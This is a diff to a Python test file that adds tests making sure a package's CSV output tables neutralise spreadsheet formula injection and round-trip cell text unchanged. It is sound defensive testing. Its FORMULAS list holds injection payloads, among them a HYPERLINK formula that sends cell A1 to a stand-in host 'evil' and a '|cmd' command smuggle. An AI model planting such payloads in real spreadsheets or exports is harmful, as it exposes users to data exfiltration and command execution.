@@ -1,15 +1,21 @@
 """Evaluate: every figure against scikit-learn, intervals against simulated judges, and the tables as files."""
 
+import csv
+import re
 from pathlib import Path
 from typing import Any
 
 import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from numpy.typing import NDArray
 
+import secondlook as package
 from conftest import Command, Result
 from make_records import Rows, write_decisions, write_instances, write_votes
+from secondlook import tabular
 from secondlook.evaluate.intervals import Draws
 from secondlook.evaluate.scores import Answers, Scores, score_all
 from secondlook.outputs import TABLES
@@ -310,3 +316,44 @@ def test_copies_in_one_picture_teach_nothing_new() -> None:
     assert copies.high - copies.low > 1.5 * (independent.high - independent.low)
     alone = judged(right[:50], np.arange(50), 0).accuracy
     assert copies.high - copies.low == pytest.approx(alone.high - alone.low, abs=0.03)
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1|cmd", "-turn", "@SUM(1)"]
+
+
+def test_a_class_that_is_a_formula_is_text_in_every_table(
+    secondlook: Command, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setitem(globals(), "CLASSES", FORMULAS)
+
+    evaluate(secondlook, write_task(tmp_path, *random_task()))
+
+    tables = {path.name: path for path in (tmp_path / "evaluate").glob("*.csv")}
+    cells = [cell for path in tables.values() for row in csv.reader(path.read_text().splitlines()) for cell in row]
+    assert [cell for cell in cells if re.match(r"[=+@-]", cell) and not re.fullmatch(r"[+-]?[\d.e-]+", cell)] == []
+    assert tabular.read_csv(tables["per_class.csv"])["class"].unique().tolist() == FORMULAS[:3]
+
+
+CELLS = st.text(max_size=6) | st.text("=+-@'\t 1a＝", max_size=5)  # noqa: RUF001
+
+
+@given(st.lists(CELLS.filter(lambda text: "\r" not in text), min_size=1, max_size=5), CELLS)
+@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+def test_a_table_comes_back_as_it_was(tmp_path: Path, cells: list[str], name: str) -> None:
+    table = pd.DataFrame({f"{name}.": cells, "n": range(len(cells))})
+    (tmp_path / "a.csv").write_text(tabular.to_csv(table), encoding="utf-8", newline="")
+
+    back = tabular.read_csv(tmp_path / "a.csv", dtype={0: str}, keep_default_na=False)
+
+    assert back.iloc[:, 0].tolist() == cells
+    assert list(back.columns) == list(table.columns)
+
+
+def test_tables_for_people_are_written_in_one_place() -> None:
+    """The labels of `consensus --votes` are for programs, which want each as it was given."""
+    root = Path(package.__file__).parent
+    sources = {path.relative_to(root).as_posix(): path.read_text() for path in root.rglob("*.py")}
+
+    found = [name for name, text in sources.items() if re.search(r"(?<!tabular)\.to_csv\(", text)]
+
+    assert sorted(found) == ["consensus/plain.py", "tabular.py"]
